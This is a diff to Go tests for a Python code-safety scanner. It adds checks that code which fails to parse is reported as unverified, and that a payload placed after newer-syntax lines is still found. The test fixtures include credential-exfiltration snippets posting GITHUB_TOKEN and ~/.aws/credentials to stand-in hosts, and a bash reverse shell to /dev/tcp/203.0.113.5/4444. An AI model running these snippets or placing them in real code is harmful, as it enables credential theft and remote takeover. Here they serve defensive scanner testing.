@@ -40,7 +40,6 @@ var suiteConfig = sdktest.GovernanceSuiteConfig{
 		"print(sum(range(10)))",
 		"import ast\nvalue = ast.literal_eval('[1, 2]')\n",
 		"import subprocess\nsubprocess.run(['ls', '-l'], check=True)\n",
-		"This is not Python at all, just a sentence.",
 		"",
 	},
 	Malicious: []string{
@@ -138,7 +137,7 @@ func TestPatterns(t *testing.T) {
 		{"env secret exfiltration", "import os, requests\ntoken = os.environ['GITHUB_TOKEN']\nrequests.post('https://collect.example', json={'t': token})\n", "codesafety.exfiltration", "malicious", 3},
 		{"credentials file exfiltration", "import urllib.request, os\ndata = open(os.path.expanduser('~/.aws/credentials')).read()\nurllib.request.urlopen('https://x.example', data=data.encode())\n", "codesafety.exfiltration", "malicious", 3},
 		{"env HOME sent", "import os, requests\nhome = os.environ.get('HOME')\nrequests.post('https://api.example', json={'home': home})\n", "", "", 0},
-		{"syntax error", "def broken(:\n    pass\n", "", "", 0},
+		{"syntax error", "def broken(:\n    pass\n", "codesafety.unparsed", "unverified", 1},
 		{"unicode before finding", "s = 'héllo wörld'  # ünïcode\nx = eval(s)\n", "codesafety.B307", "unsafe", 2},
 		// Evasions: names resolved through aliases, star imports, literal lookups and
 		// names assigned once; each with a benign look-alike that must stay quiet.
@@ -203,8 +202,8 @@ func TestPatterns(t *testing.T) {
 		{"SQL constant template parameters", "q = 'SELECT * FROM u WHERE id = %s'\ncur.execute(q, (uid,))\n", "", "", 0},
 		{"SQL f-string of a constant", "T = 'users'\ncur.execute(f'SELECT * FROM {T} WHERE id = ?', (uid,))\n", "", "", 0},
 		{"torch weights_only=1", "import torch\nm = torch.load(p, weights_only=1)\n", "", "", 0},
-		{"null byte", "x = 1\x00\n", "", "", 0},
-		{"Python 2", "print 'hi'\nexec 'import os'\n", "", "", 0},
+		{"null byte", "x = 1\x00\n", "codesafety.unparsed", "unverified", 1},
+		{"Python 2", "print 'hi'\nexec 'import os'\n", "codesafety.unparsed", "unverified", 1},
 		// False positives on ordinary code (see testdata/benign_corpus.txt), each with
 		// the attack next to it that must still be found.
 		{"env var of a service, not a secret", "import os, requests\nrepo = os.environ['GITHUB_REPOSITORY']\nrequests.get(f'https://api.github.com/repos/{repo}')\n", "", "", 0},
@@ -502,5 +501,76 @@ func TestDescribeSaysWhatItReads(t *testing.T) {
 				t.Fatalf("rule %s reads %q, runners %q; want %q, %q", d.ID, d.ContentTypes, d.Runners, c.types, c.runners)
 			}
 		}
+	}
+}
+
+// TestUnparsedCode: code the rule's Python does not parse is never passed as clean. It is
+// reported as not analysed (unverified, severity 3: default runs it, so a typo gets
+// Python's own SyntaxError from the runner; strict refuses it), with the error, the
+// rule's Python version and, when the failing line reads like newer syntax, that; and the
+// rest of the code is checked with the failing lines skipped, so a payload after a line of
+// a newer Python's syntax (the audit ran one on a 3.12 runner) is still found.
+func TestUnparsedCode(t *testing.T) {
+	r := configured(t, `{}`)
+	revshell := "import os\nos.system('bash -i >& /dev/tcp/203.0.113.5/4444 0>&1')\n"
+	for _, tt := range []struct {
+		name, code string
+		hint       bool   // the reason says the line reads like newer syntax
+		rule       string // another finding expected, "" for none
+		line       int    // its line
+	}{
+		{"type statement", "type _ = int\n" + revshell, true, "codesafety.reverse-shell", 3},
+		{"generic class", "class Box[T]:\n    pass\n" + revshell, true, "codesafety.reverse-shell", 4},
+		{"PEP 701 f-string", "x = f\"{\"a\"}\"\n" + revshell, true, "codesafety.reverse-shell", 3},
+		{"two new lines", "type A = int\ntype B = str\nimport os\nos.system('id')\n", true, "codesafety.B605", 4},
+		{"typo", "def broken(:\n    pass\n", false, "", 0},
+		{"sentence", "This is not Python at all, just a sentence.", false, "", 0},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			fs := evaluate(t, r, tt.code)
+			i := slices.IndexFunc(fs, func(f governance.Finding) bool { return f.RuleID == "codesafety.unparsed" })
+			if i < 0 {
+				t.Fatalf("no codesafety.unparsed finding in %+v", fs)
+			}
+			u := fs[i]
+			if u.Flag != governance.FlagUnverified || u.Severity != 3 || !strings.Contains(u.Reason, "not analysed") ||
+				!strings.Contains(u.Reason, "SyntaxError") || !strings.Contains(u.Reason, "set the codesafety rule's python") {
+				t.Errorf("unparsed finding %+v", u)
+			}
+			if got := strings.Contains(u.Reason, "reads like"); got != tt.hint {
+				t.Errorf("reason %q: says newer syntax %v, want %v", u.Reason, got, tt.hint)
+			}
+			others := slices.DeleteFunc(slices.Clone(fs), func(f governance.Finding) bool { return f.RuleID == "codesafety.unparsed" })
+			if tt.rule == "" {
+				if len(others) != 0 {
+					t.Fatalf("findings %+v, want only codesafety.unparsed", fs)
+				}
+				return
+			}
+			j := slices.IndexFunc(others, func(f governance.Finding) bool { return f.RuleID == tt.rule })
+			if j < 0 || others[j].Location.Line != tt.line || !strings.Contains(others[j].Reason, "skipped") {
+				t.Fatalf("findings %+v, want %s on line %d, found with the failing lines skipped", fs, tt.rule, tt.line)
+			}
+		})
+	}
+}
+
+// TestPythonOfTheRunner: with python set to an interpreter of the runner's version, code
+// in its syntax is analysed as any other (needs a Python 3.12 at a known place).
+func TestPythonOfTheRunner(t *testing.T) {
+	var py string
+	for _, p := range []string{"/usr/bin/python3.12", "/usr/local/bin/python3.12", "/root/.pyenv/versions/3.12.1/bin/python3.12"} {
+		if _, err := os.Stat(p); err == nil {
+			py = p
+			break
+		}
+	}
+	if py == "" {
+		t.Skip("no Python 3.12 found")
+	}
+	r := configured(t, fmt.Sprintf(`{"python": %q}`, py))
+	fs := evaluate(t, r, "type _ = int\nimport os\nos.system('id')\n")
+	if len(fs) != 1 || fs[0].RuleID != "codesafety.B605" || fs[0].Location.Line != 3 {
+		t.Fatalf("3.12 code under a 3.12 python: %+v, want B605 on line 3 alone", fs)
 	}
 }
